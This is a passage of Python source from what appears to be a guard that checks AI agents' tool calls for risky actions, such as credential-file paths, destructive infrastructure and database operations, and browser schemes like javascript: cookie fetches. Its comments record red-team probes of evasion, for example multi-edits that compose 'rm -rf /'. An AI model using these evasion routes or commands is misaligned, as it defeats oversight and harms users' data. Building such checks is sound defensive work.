            if depth > 16:
                continue
            if isinstance(node, dict):
                cmd = node.get("command")
                if isinstance(cmd, str) and cmd.strip():
                    extra = node.get("args")
                    words = [x for x in extra if isinstance(x, str)] if isinstance(extra, list) else []
                    lines.append(shlex.join([cmd, *words]) if words else cmd)
                for key in _LIFECYCLE_KEYS.intersection(node):
                    # (probe round 35) a dev container's lifecycle command: a shell line, an
                    # argv run without a shell, or an object of either run side by side
                    value = node[key]
                    for one in (list(value.values())[:64] if isinstance(value, dict) else [value]):
                        if isinstance(one, str) and one.strip():
                            lines.append(one)
                        elif isinstance(one, list) and one and all(isinstance(x, str) for x in one):
                            lines.append(shlex.join(one))
                todo.extend((v, depth + 1) for v in list(node.values())[:256])
            elif isinstance(node, list):
                todo.extend((v, depth + 1) for v in node[:256])
        return "\n".join(lines)
    if kind in ("npm", "nb"):
        doc = None
        if text.lstrip()[:1] == "{":
            try:
                doc = json.loads(text)
            except ValueError:
                doc = None
        if kind == "npm":
            scripts = doc.get("scripts") if isinstance(doc, dict) else None
            return "\n".join(v for v in scripts.values() if isinstance(v, str))[:_SCRIPT_TEXT] \
                if isinstance(scripts, dict) else ""
        cells = [text] if doc is None else [
            "".join(c["source"]) if isinstance(c.get("source"), list) else str(c.get("source", ""))
            for c in (doc.get("cells") or [])[:256] if isinstance(doc, dict) and isinstance(c, dict)] \
            if isinstance(doc, dict) else [text]
        out = []
        for cell in cells:
            m = _NB_SHELL_CELL.match(cell)
            if m is not None:
                out.append(cell[m.end():])
            else:
                out.extend(x.strip()[1:] for x in cell.splitlines() if x.strip().startswith("!"))
        return "\n".join(out)
    return text


def _old_text_key(k: Any) -> bool:
    """An edit tool's name for the text it replaces (old_string, oldText, old_str, search)."""
    return isinstance(k, str) and (_old_text_name(k) if len(k) <= 128 else _old_text_spelled(k))


def _old_text_spelled(k: str) -> bool:
    return _NOT_LOWER_LETTER.sub("", _key_spelling(k)) in ("oldstring", "oldtext", "oldstr", "old", "search", "original")


_NOT_LOWER_LETTER = re.compile(r"[^a-z]")
# (round 36, coldtools36: cost) the names repeat: the answer is kept per name
_old_text_name = lru_cache(maxsize=4096)(_old_text_spelled)


def _requirements_file(p: str) -> bool:
    """_REQUIREMENTS_FILE.search(p), after (round 36, coldtools36: cost) the test its words need:
    an ASCII path that holds neither word is none (a regex that starts anywhere and backtracks
    over every name character; a non-ASCII name is read by it, as case folding may make one)."""
    if p.isascii():
        low = p.lower()
        if "requirements" not in low and "constraints" not in low:
            return False
    return _REQUIREMENTS_FILE.search(p) is not None


def _leaves_of(value: Any) -> list[str]:
    out: list[str] = []
    _string_leaves(value, out)
    return out


def _written(args: Mapping[str, Any]) -> Any:
    """An edit's arguments without the text it replaces (old_string, at any depth), with
    the text its edits make together (_composed_edits) when there is any."""
    out = _without_keys(args, lambda k: k == "old_string" or k == "oldString")
    composed = _composed_edits(args)
    if composed and isinstance(out, dict):
        out["composed_edits"] = composed
    return out


def _composed_edits(args: Mapping[str, Any]) -> list[str]:
    """(probe round 35, tools35) The text a list of edits makes together: MultiEdit (and an
    MCP edit_file) applies them one after another, so a later edit's old text may be text an
    earlier one put in (["rm -rf Y", then Y -> /] writes rm -rf /, which no new_string holds
    alone). Each new text, and each made by a later edit's replacement in it."""
    edits = args.get("edits")
    if not isinstance(edits, list) or len(edits) < 2:
        return []
    made: list[str] = []
    frags: list[str] = []
    for e in edits[:64]:
        if not isinstance(e, Mapping):
            continue
        # (OpenCode's multiedit: oldString/newString, probe round 44)
        old = e.get("old_string", e.get("oldText", e.get("oldString")))
        new = e.get("new_string", e.get("newText", e.get("newString")))
        if not isinstance(new, str):
            continue
        if isinstance(old, str) and old:
            every = e.get("replace_all") is True
            for f in [f for f in frags if old in f]:
                g = f.replace(old, new) if every else f.replace(old, new, 1)
                if len(frags) < 256 and len(g) <= _SCRIPT_TEXT:
                    frags.append(g)
                    made.append(g)
        frags.append(new)
    return made


def _without_prose(args: Mapping[str, Any], prose: frozenset) -> dict:
    """A prose tool's arguments without its words for people at any depth (a Notion
    block's {"text": {"content": ...}}, a memory entity's observations); too deep is kept."""
    return _without_keys(dict(args), lambda k: isinstance(k, str) and k.lower() in prose)


def _string_leaves(value: Any, out: list[str], depth: int = 0) -> None:
    if len(out) >= _MAX_LEAVES or depth > 64:
        return
    t = type(value)
    if t is str or (t is not dict and isinstance(value, str)):
        out.append(value)
    elif t is dict or isinstance(value, Mapping):   # (round 37, coldargs37: a dict skips the ABC test)
        for k, v in value.items():
            if isinstance(k, str):
                out.append(k)
            _string_leaves(v, out, depth + 1)
    elif isinstance(value, (list, tuple)):
        for v in value:
            _string_leaves(v, out, depth + 1)


# One encoder each, built once: json.dumps with options builds a new encoder per call.
_SORTED_TEXT = json.JSONEncoder(sort_keys=True, ensure_ascii=False, default=repr).encode
_UNSORTED_TEXT = json.JSONEncoder(ensure_ascii=False, default=repr).encode


# (round 36, coldtools36: cost) the C encoder JSONEncoder.encode builds for a one-shot call
# (sort_keys, ensure_ascii off, default repr, circular references checked), built here without
# the Python layers around it (iterencode's closures, on every call)
_C_MAKE_ENCODER = getattr(json.encoder, "c_make_encoder", None)
_ENCODE_STRING = json.encoder.encode_basestring


def _json_text(value: Any) -> str:
    try:
        if _C_MAKE_ENCODER is not None and not isinstance(value, str):
            return "".join(_C_MAKE_ENCODER({}, repr, _ENCODE_STRING, None, ": ", ", ", True, False, True)(value, 0))
        return _SORTED_TEXT(value)
    except (TypeError, ValueError):
        return _UNSORTED_TEXT(value)


_JSON_ESCAPED = re.compile(r'["\\\x00-\x1f]')   # what JSON spells otherwise (quotes, backslashes, controls)


def args_text(args: Mapping[str, Any], leaves_of: Any = None) -> str:
    """JSON text of the arguments (as seed 004 matches), followed by every string leaf
    whose JSON spelling differs from itself (quotes, backslashes, newlines, non-ASCII
    escapes), so patterns written against raw values still match. (``leaves_of``: a
    function giving _leaves_of(args) already walked, read only.)"""
    text = _json_text(args if type(args) is dict else dict(args))
    if "\\" not in text:   # nothing was escaped: every leaf is spelled as it is
        return text
    leaves = leaves_of() if leaves_of is not None else _leaves_of(args)
    extra = [s for s in leaves if not s.isascii() or _JSON_ESCAPED.search(s)]
    return text + ("\n" + "\n".join(extra) if extra else "")


# argument names of other tools (MCP servers, custom tools) that hold a path
_PATH_ARG_NAME = re.compile(r"(^|_)(path|paths|file|files|filename|filenames|filepath|filepaths|pathname|pathnames|"
                            r"fname|dir|directory|dest|destination|target|source|src|dst|output|input|location|folder|"
                            r"link|uri|attachment|attachments)($|_)|path$|file$|dir$|pathname$|filename$", re.I)
# (probe round 36, exfil36: an e-mail tool's attachments, ["~/.ssh/id_rsa"] met the check and
# [".env"], a bare name, did not)
# keys that hold a path only when the value looks like one (a move's "from"/"to"; an
# e-mail's "to" is an address)
_LOOSE_PATH_KEY = re.compile(r"(^|_)(from|to)($|_)", re.I)
# file: URIs in their spellings (file:/x, FILE:///x, file://localhost/x): the path
_FILE_URI = re.compile(r"(?i)file:(?://(?:localhost)?)?(?=/)")


# the text an edit tool writes or matches, and its options: no path
_EDIT_TEXT_KEYS = frozenset({"content", "old_string", "new_string", "new_source", "old_str", "new_str", "replace_all",
                             "cell_id", "cell_type", "edit_mode", "description", "text", "insert_line", "view_range"})


def _without_text(args: Any, depth: int = 0) -> Any:
    """An edit tool's arguments without its path and its text (what is left may name
    more files: file_paths, edits[].file_path)."""
    if depth > _ARGS_DEPTH:
        return args
    if isinstance(args, dict):
        return {k: _without_text(v, depth + 1) for k, v in list(args.items())[:_ARGS_ITEMS + 1]
                if k not in _EDIT_TEXT_KEYS and not (depth == 0 and k in PATH_KEYS)}
    if isinstance(args, list):
        return [_without_text(v, depth + 1) for v in args[:_ARGS_ITEMS + 1]]
    return args


def _path_like_args(args: Any, depth: int = 0, key: str = "") -> list[str]:
    """Strings in another tool's arguments that name a file: under a path-like argument
    name, or shaped like one (absolute, ~/, ./, ../, file://). An MCP file tool given
    ~/.ssh/authorized_keys meets the sensitive-path check as Write does."""
    out: list[str] = []
    if depth > _ARGS_DEPTH:
        return [_UNREADABLE_PATH]
    if isinstance(args, dict):
        if len(args) > _ARGS_ITEMS:
            out.append(_UNREADABLE_PATH)
        for k, v in list(args.items())[:_ARGS_ITEMS]:
            out.extend(_path_like_args(v, depth + 1, str(k)))
    elif isinstance(args, list):
        if len(args) > _ARGS_ITEMS:
            out.append(_UNREADABLE_PATH)
        for v in args[:_ARGS_ITEMS]:
            out.extend(_path_like_args(v, depth + 1, key))
    elif isinstance(args, str) and args:
        path_key = bool(key) and _path_key(key)
        if len(args) >= _ARGS_TEXT:
            if path_key or args.startswith(("/", "~", ".", "file:", "FILE:")):
                out.append(_UNREADABLE_PATH)   # a path too long to read: not read as nothing
            return out
        text = args[12:] if args[:12].casefold() == "view-source:" else args
        m = _FILE_URI.match(text) if text[:5].casefold() == "file:" else None
        v = unquote(text[m.end():]).partition("#")[0].partition("?")[0] if m else text
        if m or v.startswith(("/", "~/", "./", "../")) or v == "~" or (path_key and "://" not in v):
            # (under a path's name any text is the path, spaces and newlines included:
            # Node's path.resolve reads "a b/../.git/hooks/x" as .git/hooks/x)
            out.append(v)
        elif key and ("/" in v or v.startswith((".", "~"))) and " " not in v and "\n" not in v and "@" not in v \
                and "://" not in v and _LOOSE_PATH_KEY.search(key):
            # (the cheap tests first: most values are no path)
            out.append(v)
        elif v.startswith("-") and "=" in v:
            # (probe round 32, redteam32c) an option's value given with it in a list of a
            # program's arguments ({"args": ["--headless", "--user-data-dir=/home/dev/.config/
            # google-chrome"]}, --config=~/.aws/credentials): the path it names
            val = v.partition("=")[2].strip("'\"")
            if val.startswith(("/", "~/")) or val == "~":
                out.append(val)
    return out


# how far another tool's arguments are read: beyond, the call is not analysed (asked)
_ARGS_DEPTH = 12
_ARGS_ITEMS = 1000
_ARGS_TEXT = 65536
_UNREADABLE_PATH = "/\x00unreadable"


_NOT_A_WORKING_DIR = frozenset({"/", "/tmp", "/var/tmp", "/mnt", "/media", "/run", "/dev/shm"} | (SYSTEM_DIRS - {"/root"}))
# a home directory itself is no project either: "inside" it would be ~/.local/bin,
# ~/.config/systemd, ~/.config/autostart... (paths.HOME_DIR)
# nor a directory whose files something else runs or reads as configuration: a home's
# dot-directories (~/.config/systemd/user, ~/.local/bin), the system's directories
_NO_PROJECT_UNDER = re.compile(r"(?:/root|/(?:home|Users)/[^/]+)/\.|/(?:etc|usr|bin|sbin|lib|lib64|boot|sys|proc|dev|"
                               r"run|var/(?:lib|spool|run|log|cache|tmp)|System|Library|private)(?:/|$)")
# (probe round 40, winpaths40) nor, on a Windows drive (C:\ is /c, Git Bash's /c, WSL's
# /mnt/c), the drive itself, the directory of homes, a home, its dot-directories and AppData
# (the Startup folder, the editors' settings), Windows' own directories and the installed
# programs' (C:\, C:\Users\dev, C:\Users\dev\.config, ...\AppData\Roaming, C:\Windows)
_NO_WINDOWS_PROJECT = re.compile(r"(?i)(?:/mnt|/cygdrive)?/[a-z](?:/users(?:/[^/]+)?)?/?")
_NO_WINDOWS_PROJECT_UNDER = re.compile(r"(?i)(?:/mnt|/cygdrive)?/[a-z]/(?:users/[^/]+/(?:\.|appdata(?:/|$))|"
                                       r"(?:windows|program files(?: \(x86\))?|programdata)(?:/|$))")


@lru_cache(maxsize=4096)
def _path_key(key: str) -> bool:
    """A path-like argument name, in snake_case, kebab-case or camelCase (pathInProject,
    outputDirectory, saveLocation, targetFiles: JetBrains' and other MCP servers' names)."""
    return _PATH_ARG_NAME.search(key) is not None or _PATH_ARG_NAME.search(_CAMEL_BREAK.sub("_", key)) is not None


_CAMEL_BREAK = re.compile(r"(?<=[a-z0-9])(?=[A-Z])")

# --- browsers (probe round 25) -------------------------------------------------------------
# Cline's browser_action, OpenHands' browser, Copilot's open_simple_browser, the browser MCP
# servers (their tool names say browser, puppeteer, playwright, chrome...)
_BROWSER_NAMES = frozenset({"browser_action", "browser", "open_simple_browser", "opensimplebrowser"})


@lru_cache(maxsize=4096)
def _browser_tool(tool: str) -> bool:
    return _BROWSER_TOOL.search(tool) is not None or tool.casefold() in _BROWSER_NAMES


# a browser tool that takes files from the disk into the page reads them (no file written)
_BROWSER_READS_NAME = re.compile(r"(?i)upload|file_?chooser|set_?input_?files")
# schemes a browser opens that are no web page: its own settings and internals, code,
# inline or in-memory documents (javascript:fetch(...document.cookie), data:text/html,<script>)
_BROWSER_OTHER_SCHEMES = frozenset({"javascript", "vbscript", "data", "blob", "chrome", "edge", "brave", "opera",
                                    "vivaldi", "about", "devtools", "chrome-search", "chrome-untrusted",
                                    "chrome-devtools", "resource", "moz-icon", "jar", "filesystem", "intent",
                                    "view-source", "ftp", "gopher", "ms-settings", "x-apple", "webkit"})
_BLANK_PAGE = re.compile(r"(?i)^\s*about:(?:blank|srcdoc|newtab)(?:#\S*)?\s*$")
_URL_SCHEME = re.compile(r"(?i)^\s*([a-z][a-z0-9+.\-]{1,30}):")
# URLs in text: any of the schemes above, file:, http(s):, ws(s):
_BROWSER_URL_IN_TEXT = re.compile(
    r"(?i)(?<![a-z0-9+.\-])(?:https?|wss?|file|javascript|vbscript|data|blob|chrome|edge|brave|opera|vivaldi|about|"
    r"devtools|chrome-search|chrome-untrusted|chrome-devtools|[a-z]+-extension|view-source|resource|filesystem|ftp|"
    r"gopher|jar|intent):[^\s'\"`<>()]*")
_PAGE_DECODED_CODE = re.compile(r"(?:\beval|\bFunction|setTimeout|setInterval|execScript|import)\s*\(\s*(?:window\s*\.\s*)?"
                               r"(?:atob|String\s*\.\s*fromCharCode|unescape|decodeURI(?:Component)?|"
                               r"Buffer\s*\.\s*from|TextDecoder)\b")
_UPLOAD_CALL = re.compile(r"(?i)(?:upload_?file|set_?input_?files|uploadFile|setInputFiles|file_?chooser\w*)\s*\(([^)]*)\)")
_QUOTED = re.compile(r"""(['"`])((?:(?!\1)[^\\\n]|\\.)*)\1""")


def _browser_urls(text: str) -> list[str]:
    """The URLs a browser tool's value is or holds (a whole value first; else the ones in
    page code: goto('file:///...'), fetch('http://10.0.0.5/'), location.href = 'javascript:...')."""
    stripped = text.strip()
    if _URL_SCHEME.match(stripped) and not any(c in stripped for c in " \n\t'\"`"):
        return [stripped]
    return _BROWSER_URL_IN_TEXT.findall(text[:100_000])[:64]


def _browser_code_paths(args: Any) -> list[str]:
    """Local paths in a browser tool's code: file: URLs, the files an upload call is given,
    absolute or home paths quoted in code that runs beside the page (Playwright's run_code)."""
    leaves: list[str] = []
    _string_leaves(args, leaves)
    out: list[str] = []
    for v in leaves:
        if len(v) > 100_000 or not ("(" in v or ":" in v) or _URL_SCHEME.match(v.strip()) and " " not in v.strip():
            continue   # (a whole URL is the path check's already)
        for url in _BROWSER_URL_IN_TEXT.findall(v)[:64]:
            if url[:5].casefold() == "file:":
                out.append(url)
        for m in _UPLOAD_CALL.finditer(v):
            for q in _QUOTED.finditer(m.group(1)):
                word = q.group(2)
                if "/" in word or "\\" in word or word.startswith("~") or "." in word:
                    out.append(word)
        if "(" in v:
            out.extend(q.group(2) for q in _QUOTED.finditer(v)
                       if q.group(2).startswith(("/", "~/")) and not q.group(2).startswith("//")
                       and len(q.group(2)) < 4096)
    return out[:64]


# --- cloud and infrastructure tools' named changes (probe round 25) ------------------------
# a server or tool name that says cloud or infrastructure: its changes are the CLI's
_INFRA_WORDS = frozenset({"aws", "amazon", "s3", "ec2", "rds", "iam", "lambda", "dynamodb", "cloudformation", "cdk",
                          "gcp", "gcloud", "gke", "gcs", "bigquery", "googlecloud", "azure", "az", "aks", "k8s",
                          "kube", "kubectl", "kubernetes", "helm", "argocd", "flux", "terraform", "tofu", "opentofu",
                          "pulumi", "docker", "podman", "compose", "container", "containers", "ecs", "eks", "ecr",
                          "cloudflare", "vercel", "netlify", "heroku", "fly", "flyio", "railway", "render",
                          "supabase", "firebase", "digitalocean", "doctl", "linode", "hetzner", "vultr", "openstack",
                          "ansible", "nomad", "vault", "consul", "rancher", "openshift", "infra", "cloud", "eksctl",
                          "cloudrun", "appengine", "route53", "sqs", "sns", "kms", "secretsmanager", "ssm"})
# the words of a change to what runs or is stored there (not list, get, describe, logs,
# plan, validate, search, show, status; not the shipping verbs deploy, publish, push,
# upload, sync, build: a site deployed from the project's dist/ is the other-tools row, as
# probe round 20 decided, and what they send is checked as such)
_INFRA_CHANGE_VERBS = frozenset({
    "delete", "destroy", "remove", "rm", "rmi", "terminate", "purge", "prune", "drop", "wipe", "erase", "uninstall",
    "deregister", "unregister", "detach", "revoke", "teardown", "kill", "stop", "scale", "apply", "up", "down",
    "rollback", "restart", "reboot", "drain", "cordon", "taint", "evict", "patch", "replace", "import", "reset",
    "disable", "shutdown", "rotate", "create", "update", "run", "start", "install", "upgrade", "put",
    "set", "attach", "modify", "exec", "execute", "invoke", "rollout", "expose", "authorize", "grant",
    "empty", "truncate", "flush", "clear", "cancel", "suspend", "pause", "resume", "recreate"})
# elsewhere (any server): the deletion of a whole resource (mcp__github__delete_repository)
_DESTROY_VERBS = frozenset({"delete", "destroy", "remove", "terminate", "purge", "drop", "wipe", "erase", "teardown",
                            "uninstall", "deregister", "nuke"})
_WHOLE_RESOURCES = frozenset({"repository", "repo", "repositories", "project", "projects", "bucket", "buckets",
                              "database", "db", "databases", "cluster", "clusters", "namespace", "stack", "stacks",
                              "zone", "instance", "instances", "vm", "server", "servers", "app", "application",
                              "deployment", "deployments", "environment", "env", "workspace", "organization", "org",
                              "account", "table", "tables", "index", "collection", "volume", "volumes", "domain",
                              "site", "service", "function", "branch", "schema", "keyspace", "tenant", "team"})


@lru_cache(maxsize=4096)
def _infra_verb(tool: str) -> str | None:
    """The change verb in a cloud or infrastructure tool's name, or a whole resource's
    deletion in any tool's: mcp__kubernetes__kubectl_delete -> delete, mcp__aws__s3_delete_bucket
    -> delete, mcp__terraform__apply -> apply, mcp__github__delete_repository -> delete. Only
    MCP servers' and lower-case custom tools (not Claude Code's own)."""
    if len(tool) > 256 or not (tool.startswith("mcp__") or tool[:1].islower()):
        return None
    parts = tool.split("__")
    server = parts[1] if tool.startswith("mcp__") and len(parts) >= 3 else ""
    op_words = _op_words(parts[-1])
    if not op_words:
        return None
    server_words = set(_key_words(server))
    words = server_words | set(op_words)
    infra = bool(words & _INFRA_WORDS) or any(
        w.startswith(("kube", "k8s", "docker", "terraform", "aws", "gcloud", "azure", "helm")) for w in words)
    sql = bool({"sql", "query", "queries", "select"} & set(op_words))   # (a database's SQL: risky_sql reads it)
    for w in op_words:
        if infra and w in _INFRA_CHANGE_VERBS and not (sql and w in ("execute", "exec", "run", "invoke")) \
                and not (w == "set" and {"active", "current"} & set(op_words)):
            return w   # (cloudflare's set_active_account picks the session's account: no change)
    if set(op_words) & _DESTROY_VERBS and set(op_words) & _WHOLE_RESOURCES:
        return next(w for w in op_words if w in _DESTROY_VERBS)
    return None


_OPERATION_KEYS = frozenset({"operation", "action", "op", "verb", "subcommand", "command_type", "operationtype"})


def _infra_operation_arg(args: Any, depth: int = 0) -> str | None:
    """A generic infrastructure tool's change named by an argument (node_management
    {"operation": "drain"}, a services updater's {"selectSchema": {"operation":
    "delete-project"}}): its change verb (probe round 29)."""
    if not isinstance(args, Mapping) or depth > 3:
        return None
    for k, v in list(args.items())[:_ARGS_ITEMS]:
        if isinstance(k, str) and isinstance(v, str) and k.casefold() in _OPERATION_KEYS and len(v) < 256:
            hit = next((w for w in _key_words(v) if w in _INFRA_CHANGE_VERBS), None)
            if hit is not None:
                return hit
        elif isinstance(v, Mapping):
            hit = _infra_operation_arg(v, depth + 1)
            if hit is not None:
                return hit
    return None


# --- any server's changes of consequence (probe round 29) ----------------------------------
# Whatever the server (a forge, a chat, a tracker, payments, mail, a database), a tool whose
# name changes who may reach what, moves money, erases what was stored, rewrites history or
# starts a pipeline asks, as `gh repo edit --visibility public`, `gh api -X DELETE`, `stripe
# refunds create` or `git reset --hard` do in Bash; reads, searches, issues, comments,
# messages and new branches stay the other-tools row.
# what access is made of: adding, changing or removing one changes who may reach what
_ACCESS_NOUNS = frozenset({
    "collaborator", "collaborators", "member", "members", "membership", "memberships", "permission", "permissions",
    "role", "roles", "access", "acl", "acls", "policy", "policies", "iam", "protection", "protections", "ruleset",
    "rulesets", "visibility", "webhook", "webhooks", "hook", "hooks", "key", "keys", "apikey", "apikeys", "token",
    "tokens", "pat", "credential", "credentials", "secret", "secrets", "password", "passwords", "forwarding",
    "delegate", "delegates", "delegation", "owner", "owners", "admin", "admins", "sharing", "invitation",
    "invitations", "env", "envs", "envvar", "envvars", "variable", "variables", "vars", "remote", "remotes",
    "config", "configuration", "settings", "setting", "sso", "saml", "oauth", "mfa", "2fa", "group", "groups",
    "endpoint", "endpoints", "subscription", "subscriptions", "account", "accounts"})
_ACCESS_VERBS = frozenset({
    "add", "create", "update", "set", "put", "delete", "remove", "grant", "revoke", "attach", "detach", "enable",
    "disable", "invite", "share", "transfer", "change", "modify", "edit", "assign", "patch", "replace", "upsert",
    "generate", "regenerate", "roll", "rotate", "reset", "make", "new", "register", "link", "accept", "unprotect",
    "cancel", "suspend", "deactivate", "ban", "kick", "promote", "elevate", "impersonate"})
# nouns a change of is everyday work, whatever the access word beside it (an issue's
# assignee, a comment's reaction), and words that choose rather than change (cloudflare's
# set_active_account picks the account the session works in)
_ACCESS_BENIGN_SUBJECT = frozenset({"issue", "issues", "comment", "comments", "task", "tasks", "ticket", "card",
                                    "label", "labels", "reaction", "status", "profile", "active", "current",
                                    "presence", "notification", "notifications"})
# verbs that are the change whatever their object: money leaving, history rewritten, a
# whole thing transferred away or shared
_CONSEQUENCE_VERBS = frozenset({"refund", "refunds", "payout", "payouts", "transfer", "transfers", "charge", "share",
                                "unprotect", "revoke", "reset", "kill", "terminate", "ban", "kick", "deactivate",
                                "impersonate", "forward", "drain", "cordon", "evict", "rebase", "force", "invite"})
# verbs that are one only with their object: a merge of a pull request or a branch (not of
# PDFs), a dismissed review or alert (not a notification), an archived repository or channel
_OBJECT_VERBS = {
    "merge": frozenset({"pull", "pulls", "pr", "prs", "branch", "branches", "request", "requests", "changes", "changeset"}),
    "dismiss": frozenset({"review", "reviews", "alert", "alerts", "finding", "findings", "vulnerability"}),
    "archive": _WHOLE_RESOURCES | {"channel", "channels", "repos", "space", "spaces"},
}
# erasing what was stored (a record, a page, a message, a release, a calendar)
_ERASE_VERBS = frozenset({"delete", "destroy", "drop", "purge", "wipe", "erase", "trash", "nuke", "flush",
                          "flushall", "flushdb", "truncate", "empty", "deletemany", "dropdatabase",
                          "dropcollection"})
# the agent's own notes (a memory server's graph, a scratchpad): erasing them is its own business
_OWN_NOTES = frozenset({"entity", "entities", "observation", "observations", "relation", "relations", "memory",
                        "memories", "thought", "thoughts", "todo", "todos", "scratchpad", "draft", "drafts",
                        "reaction", "reactions", "todo", "todos", "note", "notes", "knowledge"})
# a part of a page or a sheet (a Notion block, a cell): erasing one is editing the document
_DOC_PARTS = frozenset({"block", "blocks", "cell", "cells", "paragraph", "paragraphs", "line", "lines"})
# starting what runs elsewhere with the repository's or the account's rights (the verb
# before its object: run_workflow, trigger_pipeline; not cancel_workflow_run)
_RUN_VERBS = frozenset({"run", "trigger", "dispatch", "start", "execute", "invoke"})
_RUN_NOUNS = frozenset({"workflow", "workflows", "pipeline", "pipelines", "job", "jobs", "action", "actions",
                        "automation", "automations", "runbook", "playbook"})
# (a build is the project's own: mcp__build__run_build is make)
_FORCE_KEYS = frozenset({"force", "forcepush", "admin", "bypass", "skipci", "noverify", "allowforcepushes",
                         "override", "skiphooks", "hard"})
_FORWARD_KEY = re.compile(r"(?i)forward")
# a tool name's file words: an MCP file tool's delete or move of a file here is the edit row's
_FILE_OP_WORDS = frozenset({"file", "files", "directory", "directories", "dir", "folder", "path", "entry"})
_CONFIG_NOUNS = frozenset({"config", "configuration", "settings", "setting"})


@lru_cache(maxsize=4096)
def _consequence_verb(tool: str) -> str | None:
    """The words of an MCP or custom tool's name that make it a change of consequence on
    any server (see above): mcp__github__add_collaborator -> "add collaborator",
    mcp__stripe__create_refund -> "refund", mcp__linear__delete_project -> "delete"."""
    if len(tool) > 256 or not (tool.startswith("mcp__") or tool[:1].islower()):
        return None
    words = _op_words(tool.split("__")[-1])
    op = set(words)
    if not op:
        return None
    if "merge" in op and all(w != "merge" or words[i + 1:i + 2] in (("request",), ("requests",))
                             for i, w in enumerate(words)):
        op.discard("merge")   # (a GitLab merge request is a thing, not a merge: get_merge_request)
    hit = op & _CONSEQUENCE_VERBS
    if "reset" in hit and "git" in op:
        hit.discard("reset")   # (mcp-server-git's git_reset unstages; its mode argument says hard)
    if hit:
        return min(hit)
    for verb, objects in _OBJECT_VERBS.items():
        if verb in op and (op & objects or op == {verb}):
            return verb
    hit = op & _ERASE_VERBS
    rest = op - _ERASE_VERBS - {"many", "one", "all", "by", "id", "ids", "batch", "bulk"}
    parts = tool.split("__")
    server = set(_key_words(parts[1])) if tool.startswith("mcp__") and len(parts) >= 3 else set()
    if hit and not (rest and rest <= _OWN_NOTES | _DOC_PARTS or server & _OWN_NOTES):
        return min(hit)
    hit = op & _ACCESS_VERBS
    nouns = op & _ACCESS_NOUNS
    if hit and nouns and not op & _ACCESS_BENIGN_SUBJECT:
        return f"{min(hit)} {min(nouns)}"
    runs = [i for i, w in enumerate(words) if w in _RUN_VERBS]
    if runs and any(w in _RUN_NOUNS for w in words[runs[0] + 1:]):
        return f"{words[runs[0]]} {next(w for w in words[runs[0] + 1:] if w in _RUN_NOUNS)}"
    return None


# (probe round 49, tools49) the paths a checkout or a restore of which takes back every change
_WHOLE_TREE = frozenset({".", "./", "*", ":/", ":/*", "--all"})
_GIT_TOOL_DIRS = frozenset({"cwd", "dir", "directory", "workdir", "working_dir", "workingdirectory", "root"})


def _git_tool_discards(args: Mapping[str, Any], op: set) -> str | None:
    """(probe round 49, tools49) A git tool's argument that is an option (git_checkout
    {"branch_name": "-f"}, git_reset {"mode": "--hard"}, git_diff {"target": "--output=x"}:
    the server passes it on among git's words, CVE-2025-68144's injection) or, for a checkout
    or a restore, the whole tree ("." takes back every change, as git checkout -- . does)."""
    tree = bool(op & {"checkout", "restore"})
    for k, v in list(args.items())[:_ARGS_ITEMS]:
        if not isinstance(k, str) or _key_spelling(k) in _VCS_WORDS:
            continue
        where = "repo" in k.casefold() or _key_spelling(k) in _GIT_TOOL_DIRS   # (the repository's own place)
        for x in (v if isinstance(v, list) else [v])[:_ARGS_ITEMS]:
            if not isinstance(x, str):
                continue
            w = x.strip()
            if w.startswith("-") and w[1:2] and not w[1].isdigit():   # (-1 week, -5: a date's or a count's)
                return f"{k}: {x[:100]} (an option among git's words)"
            if tree and not where and w in _WHOLE_TREE:
                return f"{k}: {x[:100]} (every change in the tree taken back)"
    return None


def _consequence_args(args: Mapping[str, Any], tool: str) -> str | None:
    """An argument that makes an ordinary-looking change one of consequence: force or
    admin set (a ref moved by force, a merge past protection), a repository or file made
    public on an update, mail forwarded elsewhere."""
    if len(tool) > 256 or not (tool.startswith("mcp__") or tool[:1].islower()):
        return None
    op = set(_key_words(tool.split("__")[-1]))
    creates = "create" in op or "new" in op
    if op & _CONFIG_NOUNS and not op & {"get", "list", "read", "show", "view", "describe", "validate", "check"} \
            and any(isinstance(k, str) and k.casefold() in ("value", "values") for k in args):
        return "sets " + min(op & _CONFIG_NOUNS)   # (desktop-commander's set_config_value, git_config {key, value})
    if "git" in op:
        hit = _git_tool_discards(args, op)
        if hit is not None:
            return hit
    req = _http_request(args)
    if req is not None and (req[0] in ("DELETE", "PURGE") or any("_delete_by_query" in p for p in req[1])):
        # (probe round 32) a generic HTTP tool's DELETE ({"method": "DELETE", "url": ...}):
        # a change of consequence on the server, as curl -X DELETE is asked
        return f"HTTP {req[0]} {' '.join(req[1])[:200]}".rstrip()
    todo: list[tuple[Any, int]] = [(args, 0)]
    seen = 0
    while todo and seen < 200:
        value, depth = todo.pop()
        if not (type(value) is dict or isinstance(value, Mapping)) or depth > 3:
            continue
        for k, v in list(value.items())[:_ARGS_ITEMS]:
            seen += 1
            if not isinstance(k, str):
                continue
            key = "".join(_key_words(k))
            on = v is True or (isinstance(v, str) and v.strip().casefold() in ("true", "yes", "1"))
            if key in _FORCE_KEYS and on:
                return f"{k}: {v}"
            if key == "mode" and isinstance(v, str) and v.strip().casefold() == "hard":
                return f"{k}: {v}"
            if not creates and (key == "visibility" and isinstance(v, str) and v.strip().casefold() == "public"
                                or key == "private" and (v is False or v == "false")
                                or key == "public" and on):
                return f"{k}: {v}"
            if key == "where" and k.startswith("$") or k in ("$function", "$accumulator"):
                return f"{k}: server-side JavaScript"   # (MongoDB runs it on the server)
            if depth == 0 and isinstance(k, str) and k.casefold() in _MANY_KEYS and _db_erase_kind(tool) == 2 \
                    and _match_all_level(v) == 1:
                return f"{k}: a filter every record may meet"   # (as SQL's WHERE id IS NOT NULL)
            if k in ("$out", "$merge"):
                # (probe round 32, mcp32) an aggregation that writes its result over a
                # collection (replaced whole by $out) or into one
                return f"{k}: writes a collection"
            if isinstance(v, str) and "@" in v and _name_search(_FORWARD_KEY, k):   # (round 36: the cheap tests first)
                return f"{k}: {v}"
            if type(v) is str:
                pass   # (round 37, coldargs37: a string is no mapping nor list; no ABC test)
            elif isinstance(v, Mapping):
                todo.append((v, depth + 1))
            elif isinstance(v, list) and depth < 3:
                # (a pipeline's stages: [{"$match": ...}, {"$out": "users"}])
                todo.extend((x, depth + 1) for x in v[:_ARGS_ITEMS] if isinstance(x, Mapping))
    return None


# a database's whole object erased by a tool's name (mcp__mongodb__drop-database,
# mcp__redis__flushall, mcp__neon__delete_database): DROP DATABASE / FLUSHALL by another name
_DB_OBJECTS = frozenset({"database", "databases", "db", "table", "tables", "collection", "collections", "schema",
